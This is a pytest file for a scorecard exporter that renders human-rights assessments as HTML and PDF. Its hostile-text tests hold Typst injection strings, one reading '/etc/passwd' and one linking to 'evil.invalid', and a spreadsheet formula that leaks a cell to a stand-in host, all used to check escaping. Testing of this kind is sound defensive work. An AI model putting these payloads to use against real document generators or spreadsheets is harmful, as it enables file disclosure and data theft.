"""A scorecard says what people decided, from where, and on what; proposals are not on it; no text in it is markup."""

from __future__ import annotations

import re
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pdfplumber
import pikepdf
import pytest
from click.testing import CliRunner
from hostile_samples import PRODUCT, fill, payloads
from lxml import html
from report_samples import COMPANY, FIRM, VAGUE, decide, workspace
from scorecard_samples import ADDRESS, STAGES, by_hand, decided, pdf_text, staged, the_only_company, without_space

import cli
import rubric
from errors import InputError
from extractors.records import Listing, Outcome, Source
from findings.words import OPEN
from reports.company import read_company
from reports.dossier import dossiers
from reports.exports import EXPORTS, About, export_file
from reports.journey import FROM_OUTSIDE, journey_of
from reports.publishing import publish
from reports.scorecard_records import printable
from reports.scorecard_short import shortened
from reports.scorecard_words import _nothing, scorecard
from workspace.records import Ruling, Screening
from workspace.store import Store, open_store

ROOT = Path(__file__).parent.parent
TYPST = (
    '#import "/etc/passwd": *',
    '$ x^2 $ #panic("ran")',
    "`raw` ```rust fn``` *b* _i_ <lab> @ref",
    '] #eval("1+1") [ // /* \\ \\u{41} ~ --',
    '= H #read("x") #link("http://evil.invalid")[x]',
)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with open_store(decided(tmp_path / "workspace")) as opened:
        yield opened


def page_of(
    store: Store, tmp_path: Path, company: str = COMPANY, rubric: str | None = None, short: bool = False
) -> html.HtmlElement:
    export_file(store, "scorecard", tmp_path / "card.html", company, rubric, short)
    return html.document_fromstring((tmp_path / "card.html").read_bytes())


def words(page: html.HtmlElement) -> str:
    return " ".join(page.find("body").text_content().split())


def paper_of(
    store: Store, tmp_path: Path, company: str = COMPANY, rubric: str | None = None, short: bool = False
) -> str:
    export_file(store, "scorecard", tmp_path / "card.pdf", company, rubric, short)
    return pdf_text(tmp_path / "card.pdf")


# --- what is on it


def test_nothing_is_published_where_nobody_decided_anything(tmp_path: Path) -> None:
    with open_store(workspace(tmp_path / "workspace")) as store:
        for name in ("card.html", "card.pdf"):
            with pytest.raises(InputError, match=r"nobody decided .* `firmword review --workspace .*`"):
                export_file(store, "scorecard", tmp_path / name, COMPANY, None)
            assert not (tmp_path / name).exists()


def test_what_is_open_has_bounds_and_is_no_number_and_nothing_proposed_is_told(store: Store, tmp_path: Path) -> None:
    page = page_of(store, tmp_path)
    rows = {row.xpath("string(th)").split()[0]: row for row in page.iterfind(".//tr")}
    assert [cell.text_content() for cell in rows["A.1.1"].iterfind("td")] == ["1–2 of 2", "open"]
    assert [cell.text_content() for cell in rows["A.1.2"].iterfind("td")] == ["0–2 of 2", "open"]
    assert [cell.text_content() for cell in rows["Sum"].iterfind("td")] == ["1–26 of 26", "open"]
    assert "(weight 31 %)" in rows["A"].text_content()
    assert "A.1.2/S1.a" in words(page)
    assert "Open: nobody decided yet." in words(page)
    for form in (words(page), paper_of(store, tmp_path)):
        assert "propos" not in form.lower()


def test_a_confirmed_quote_stands_with_document_date_page_link_note_and_who(store: Store, tmp_path: Path) -> None:
    (quote,) = page_of(store, tmp_path).iterfind(".//blockquote")
    told = " ".join(quote.text_content().split())
    for part in (f"“{FIRM.quote}”", "Policy, 2024, page 1", "Confirmed by tester, 2026-01-03 00:00 UTC", "plain words"):
        assert part in told
    assert quote.find(".//a").get("href") == ADDRESS
    paper = paper_of(store, tmp_path)
    for part in (
        f"“{FIRM.quote}”",
        "Policy, 2024, page 1",
        "Confirmed by tester, 2026-01-03 00:00 UTC.Note: plain words",
    ):
        assert without_space(part) in paper


def test_a_zero_has_its_receipt_and_what_was_too_weak_only_its_reason(store: Store, tmp_path: Path) -> None:
    told = words(page_of(store, tmp_path))
    zero = told.partition("A.1.1/S2.a")[2].partition("A.1.1/S2.b")[0]
    assert "Not met. A person said so, by hand. Decided by ada, 2026-01-04 08:30 UTC." in zero
    assert re.search(
        r"No passage was found in 1 page of 1 document, searched for by \d+ entr(y|ies) of the lexicons; "
        "1 document not read, or not wholly. Note: nothing of the kind", zero
    )  # fmt: skip
    assert VAGUE.quote not in told
    assert "scan.pdf: no text layer." in told
    for part in (zero, "scan.pdf: no text layer."):
        assert without_space(part) in paper_of(store, tmp_path)


def test_it_says_whether_and_by_whom_it_was_published(store: Store, tmp_path: Path) -> None:
    assert "Statedraft, not published" in words(page_of(store, tmp_path))
    publish(store, COMPANY, None, "the editor", open_too=True)
    assert "Statepublished by the editor, 2" in words(page_of(store, tmp_path))


def test_credit_licence_versions_and_anchor_stand_on_it(store: Store, tmp_path: Path) -> None:
    told = words(page_of(store, tmp_path))
    paper = paper_of(store, tmp_path)
    for part in ("by the Corporate Human Rights Benchmark Ltd", "NonCommercial-NoDerivatives", store.anchor()):
        assert part in told
        assert without_space(part) in paper
    assert (tmp_path / "card.html.anchor").read_text(encoding="utf-8") == f"{store.anchor()}  card.html\n"


def test_no_path_of_a_machine_is_published(store: Store, tmp_path: Path) -> None:
    listing = Listing(COMPANY, "/home/ada/secret/scan.pdf", "/home/ada/secret/scan.pdf")
    detail = "/home/ada/secret/scan.pdf: no text in it; run text recognition on it"
    source = Source(listing, "2026-01-02T03:04:05+00:00", "file copied", None, "application/pdf")
    store.save_screening(Screening(source, "chrb-core-2019", "rules-1", Outcome.NO_TEXT_LAYER, detail))
    page_of(store, tmp_path)
    made = (tmp_path / "card.html").read_text(encoding="utf-8")
    assert "/home/ada" not in made
    assert "scan.pdf: no text layer. No text in it" in made
    assert "/home/ada" not in paper_of(store, tmp_path)


# --- stages


def test_stages_come_with_their_caution_the_gap_and_the_plan(tmp_path: Path) -> None:
    with open_store(staged(tmp_path / "workspace")) as store:
        told = words(page_of(store, tmp_path, rubric=STAGES))
        paper = paper_of(store, tmp_path, rubric=STAGES)
    for part in (
        FROM_OUTSIDE,
        "1.d Sourcing requirements",
        "The highest stage with public evidence is 1 Launched.",
        "Improvement plan, the closest first",
        "Stage 2 Established lacks confirmed public evidence of 1 statement.",
        "(looked at: none found)",
        "1 Launched, 2 Established, 3 Integrated and 4 Leadership",
    ):
        assert part in told, part
        assert without_space(part) in paper, part


def test_what_nobody_decided_of_a_next_stage_is_open_and_is_never_said_to_change_nothing(tmp_path: Path) -> None:
    with open_store(staged(tmp_path / "workspace")) as store:
        store.decide(by_hand("2.b/1.1", Ruling.NOT_MET, rubric=STAGES))
        told = words(page_of(store, tmp_path, rubric=STAGES))
        paper = paper_of(store, tmp_path, rubric=STAGES)
        plan = journey_of(read_company(store, COMPANY, rubric.load(STAGES))).decided.plan
    labels = {one.id: one.label for one in rubric.load(STAGES).elements}
    open_word = "Open: nobody decided yet; the result does not wait for it, the improvement plan counts it as lacking."
    same = "Not decided: whatever it were, the result would be the same."
    every = sum(len(step.gap.statements) for step in plan)
    for part in (
        "Stage 1 Launched lacks confirmed public evidence of 3 statements; 2 of 3 are open: nobody decided yet.",
        f"2.b/1.2 {labels['2.b/1.2']} (open)",
        f"2.b/1.2 {labels['2.b/1.2']} ? {open_word}",
        f"2.b/2.1 {labels['2.b/2.1']} · {same}",
        f"counts as lacking {every - 2} of {every} are open: nobody decided yet.",
    ):
        assert part in told, part
        assert without_space(part) in paper, part


def test_without_a_rubric_named_all_stand_on_it_by_which_anything_was_decided(tmp_path: Path) -> None:
    with open_store(staged(tmp_path / "workspace")) as store:
        page = page_of(store, tmp_path)
        assert [one.text_content() for one in page.iterfind(".//h2")] == [
            "CHRB Core UNGP Indicator Assessment",
            "Responsible Sourcing Journey",
        ]
        (only,) = page_of(store, tmp_path, rubric=STAGES).iterfind(".//h2")
        assert only.text_content() == "Responsible Sourcing Journey"


# --- its short form


def test_the_short_form_has_the_scores_and_the_best_quote_of_each_indicator_and_says_what_it_leaves_out(
    store: Store, tmp_path: Path
) -> None:
    for one in store.candidates(COMPANY):
        decide(store, one, Ruling.SUPPORTS, f"note on {one.evidence.quote}")
    whole, short = (words(page_of(store, tmp_path, short=one)) for one in (False, True))
    results = re.search(r"Points by theme .*? changes no sum\.", whole)
    assert results, "the charts and the table of results"
    for form in (short, paper_of(store, tmp_path, short=True)):
        assert without_space(
            "This is the short form. Of 2 confirmed quotes it has the best of each indicator, 1 in all. It leaves out"
        ) in without_space(form)
        assert without_space(f"“{FIRM.quote}”Policy, 2024, page 1") in without_space(form)
        assert without_space(f"Note: note on {FIRM.quote}") in without_space(form)
        assert without_space(VAGUE.quote) not in without_space(form)
        assert without_space("0–2 of 2 points, open. No quote is confirmed.") in without_space(form)
        for left_out in ("scan.pdf: no text layer", "What was searched", "A.1.1/S2.a", "nothing of the kind"):
            assert without_space(left_out) in without_space(whole)
            assert without_space(left_out) not in without_space(form)
        assert without_space(
            f"Digest of the decision log, by which a later change shows{store.anchor()}"
        ) in without_space(form)
    assert results.group() in short


def test_the_short_form_has_the_stages_with_their_gap_and_the_whole_plan(tmp_path: Path) -> None:
    with open_store(staged(tmp_path / "workspace")) as store:
        whole, short = (page_of(store, tmp_path, rubric=STAGES, short=one) for one in (False, True))
    plan = "//h3[starts-with(., 'Improvement plan')]/following-sibling::ol[1]"
    assert short.xpath(plan)[0].text_content() == whole.xpath(plan)[0].text_content()
    told = words(short)
    for part in (FROM_OUTSIDE, "The highest stage with public evidence is 1 Launched.", "no confirmed quote"):
        assert part in told
    assert told.count("Stage 2 Established lacks confirmed public evidence of 1 statement.") == 2, (
        "at its topic and in the plan"
    )


def test_the_best_quote_is_of_what_is_met_then_one_that_the_rules_find_today(store: Store, tmp_path: Path) -> None:
    (about,) = dossiers(store, COMPANY, "chrb-core-2019")
    entry = about.indicators[0]
    quote = entry.elements[0].confirmed[0]
    old = replace(quote, text="old words", candidate=replace(quote.candidate, current=False, rank=0))
    found = replace(quote, text="a later place", candidate=replace(quote.candidate, rank=90))
    unmet = replace(entry.elements[1], outcome="not met", confirmed=(replace(quote, text="of what is not met"),))
    elements = (replace(entry.elements[0], confirmed=(old, found)), unmet, *entry.elements[2:])
    odd = replace(about, indicators=(replace(entry, elements=elements), *about.indicators[1:]))
    (asked,) = shortened(scorecard(odd), odd).groups[0].parts[0].asked
    assert [one.text for one in asked.passages] == ["a later place"]
    assert asked.why == ()


def test_a_confirmed_quote_that_shows_a_part_does_not_stand_under_nobody_decided(store: Store) -> None:
    (about,) = dossiers(store, COMPANY, "chrb-core-2019")
    entry = about.indicators[0]
    first, second = (replace(one, outcome=OPEN) for one in entry.elements[:2])
    odd = replace(about, indicators=(replace(entry, elements=(first, second)), *about.indicators[1:]))
    told = [one.outcome for one in scorecard(odd).groups[0].parts[0].asked]
    assert first.confirmed
    assert told == ["open: what is confirmed does not show all that it asks", "open: nobody decided yet"]


def test_a_quote_of_what_is_not_met_keeps_the_ground_on_which_it_is_not(store: Store, tmp_path: Path) -> None:
    store.decide(by_hand("A.1.1/S1.a", Ruling.NOT_MET, "of another company"))
    told = words(page_of(store, tmp_path, short=True))
    why = r"Not met\. A person said so, by hand, though 1 passage is confirmed\. Decided by ada"
    ground = rf"{why}.{{0,160}} Note: of another company "
    assert re.search(f"{ground}“{re.escape(FIRM.quote)}", told)


def test_only_a_scorecard_has_a_short_form(store: Store, tmp_path: Path) -> None:
    for one in EXPORTS:
        if one.name != "scorecard":
            company = COMPANY if one.about is About.ONE else None
            with pytest.raises(InputError, match=f"--short: export {one.name} has no short form; leave it out"):
                export_file(store, one.name, tmp_path / f"file{one.endings[0]}", company, None, short=True)
    asked = [*("export", "scores", "--short"), *("--workspace", str(store.workspace))]
    told = CliRunner().invoke(cli.cli, asked)
    assert told.exit_code == 2
    assert "--short: it belongs to scorecards" in told.output
    assert list(tmp_path.glob("file*")) == []


# --- its two forms


def test_the_same_workspace_gives_the_same_bytes_until_somebody_decides(store: Store, tmp_path: Path) -> None:
    def made(name: str) -> bytes:
        export_file(store, "scorecard", tmp_path / name, COMPANY, None)
        return (tmp_path / name).read_bytes()

    before = {name: made(name) for name in ("card.html", "card.pdf")}
    assert {name: made(name) for name in before} == before
    store.decide(by_hand("A.1.4/S1.a", Ruling.MET))
    assert all(made(name) != bytes_before for name, bytes_before in before.items())


def test_the_page_needs_no_script_and_no_network(store: Store, tmp_path: Path) -> None:
    page = page_of(store, tmp_path)
    assert page.xpath("//script | //link | //img | //iframe | //object | //@src | //@style") == []
    policy = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    assert re.fullmatch(r"default-src 'none'; style-src 'sha256-[\w+/=]+'", policy)
    assert page.get("lang") == "en"
    assert {one.get("role") for one in page.xpath("//svg/..")} == {"img"}
    assert all("A.1.1" in one or "A Governance" in one for one in page.xpath("//svg/../@aria-label"))


def test_the_pdf_is_tagged_has_title_language_and_date_and_links_to_the_sources(store: Store, tmp_path: Path) -> None:
    paper_of(store, tmp_path)
    with pikepdf.open(tmp_path / "card.pdf") as made:
        root = made.Root
        assert bool(root.MarkInfo.Marked)
        assert str(root.Lang) == "en"
        assert (str(made.docinfo.Title), str(made.docinfo.Author)) == (f"{COMPANY}: scorecard", "tester, ada")
        assert str(made.docinfo.CreationDate).startswith("D:20260104083000"), "the day of the last decision"
        annotations = [one for page in made.pages for one in page.get("/Annots", pikepdf.Array())]
        links = {str(one["/A"].get("/URI")) for one in annotations if "/A" in one}
        pictures = [one for one in made.objects if isinstance(one, pikepdf.Dictionary) and one.get("/S") == "/Figure"]
    assert ADDRESS in links
    assert any("A.1.1 Commitment to respect human rights: 1–2 of 2, open" in str(one.get("/Alt")) for one in pictures)


# --- hostile texts


@pytest.mark.parametrize("text", TYPST)
def test_no_text_is_markup_of_the_pdf(tmp_path: Path, text: str) -> None:
    fill(tmp_path / "workspace", [{place: f"{text} {place}" for place in payloads(0)}])
    with open_store(tmp_path / "workspace") as store:
        paper = paper_of(store, tmp_path, the_only_company(store))
    for place in ("company name", "title", "lead-in", "text", "note", "reviewer", "sector"):
        assert without_space(f"{text} {place}") in paper, place


@pytest.mark.parametrize("shape", [0, 7, 11, 15, 18])
def test_no_text_is_markup_of_the_page(tmp_path: Path, shape: int) -> None:
    told = payloads(shape)
    fill(tmp_path / "workspace", [told])
    with open_store(tmp_path / "workspace") as store:
        page = page_of(store, tmp_path, the_only_company(store))
    assert page.xpath("//script | //img | //iframe | //base | //form | //math | //details") == []
    assert [one for one in page.xpath("//@*") if one.attrname.startswith(("on", "hx-"))] == []
    assert all(one.startswith(("#", "http://", "https://")) for one in page.xpath("//@href"))
    assert PRODUCT not in words(page)
    for place in ("company name", "title", "lead-in", "text", "note", "reviewer", "sector"):
        assert without_space(printable(told[place])) in without_space(words(page)), place


def test_letters_without_a_font_are_codes_on_paper_and_it_says_so(tmp_path: Path) -> None:
    odd = "a \ufdd0 b \u202e c"
    fill(tmp_path / "workspace", [{place: f"{odd} {place}" for place in payloads(0)}])
    with open_store(tmp_path / "workspace") as store:
        paper = paper_of(store, tmp_path, the_only_company(store))
        page = words(page_of(store, tmp_path, the_only_company(store)))
    assert without_space(r"a \ufdd0 b \u202e c note") in paper
    assert without_space("No font was there for some letters") in paper
    assert "a \ufdd0 b \\u202e c note" in page, "the page has the letter itself"


def test_letters_of_many_scripts_stand_as_they_are(tmp_path: Path) -> None:
    text = "Σωκράτης Кириллица Dvořák ß ﬁ שלום"
    fill(tmp_path / "workspace", [{place: f"{text} {place}" for place in payloads(0)}])
    with open_store(tmp_path / "workspace") as store:
        paper = paper_of(store, tmp_path, the_only_company(store))
    for word in ("Σωκράτης", "Кириллица", "Dvořák"):
        assert word in paper


def test_a_word_longer_than_a_page_and_an_address_longer_than_a_pdf_holds_are_told_to_their_end(tmp_path: Path) -> None:
    long = "W" * 4000 + "e"
    told = {place: f"{long} {place}" for place in payloads(0)} | {"company name": "Long", "file name": "long"}
    fill(tmp_path / "workspace", [told | {"address": "https://x.invalid/" + "a" * 9000}])
    with open_store(tmp_path / "workspace") as store:
        paper = re.sub(r"Long\d+/\d+", "", paper_of(store, tmp_path, "Long"))  # without the pages' feet
    assert without_space(f"Note: {long} note") in paper
    assert "https://x.invalid/" + "a" * 9000 in paper
    with pdfplumber.open(tmp_path / "card.pdf") as pages:
        assert [one for page in pages.pages for one in page.chars if one["x1"] > page.width] == []


def test_half_characters_and_commands_are_codes() -> None:
    assert printable("a\ud800b\x1b[31m\x00\u2067c\n") == "a\\ud800b\\u001b[31m\\u0000\\u2067c\n"


# --- what is shipped


def test_each_file_beside_the_modules_is_shipped_with_them() -> None:
    settings = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["setuptools"]
    shipped = settings["package-data"]
    beside = [file.relative_to(ROOT / "reports") for file in (ROOT / "reports").rglob("*") if file.is_file()]
    texts = [file for file in beside if file.suffix not in (".py", ".pyc")]
    assert Path("templates/scorecard.typ") in texts
    assert [file for file in texts if not any(file.match(glob) for glob in shipped["reports"])] == []


@pytest.mark.parametrize(
    ("wordings", "told"),
    [
        (
            ("we respect rights",),
            "the model looks for its wordings, where it is installed, and else it rests on who read for it.",
        ),
        ((), "it rests on who read for it."),
    ],
)
def test_a_zero_without_a_rule_says_that_a_model_may_have_looked(
    tmp_path: Path, wordings: tuple[str, ...], told: str
) -> None:
    with open_store(decided(tmp_path / "workspace")) as store:
        (about,) = dossiers(store, COMPANY, "chrb-core-2019")
    entry = next(each for one in about.indicators for each in one.elements if each.element.id == "A.1.1/S2.a")
    bare = replace(entry, rules=0, element=replace(entry.element, wordings=wordings))
    assert list(_nothing(about.receipt, bare))[-1] == f"No entry of the lexicons searches for it; {told}"


def test_no_block_of_the_page_begins_like_a_formula_to_a_spreadsheet_that_opens_it(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://x.example?leak="&A1,"click")'
    fill(tmp_path / "workspace", [dict.fromkeys(payloads(0), formula) | {"file name": "=cmd.txt"}])
    with open_store(tmp_path / "workspace") as store:
        export_file(store, "scorecard", tmp_path / "card.html", formula, None)
    page: Any = html.fromstring((tmp_path / "card.html").read_bytes())
    blocks = [one.text_content().strip(" \n") for one in page.iter("h1", "h2", "h4", "h5", "dt", "dd", "p", "li", "td")]
    assert any(formula in block for block in blocks)
    assert [block for block in blocks if block.startswith(("=", "+", "-", "@"))] == []
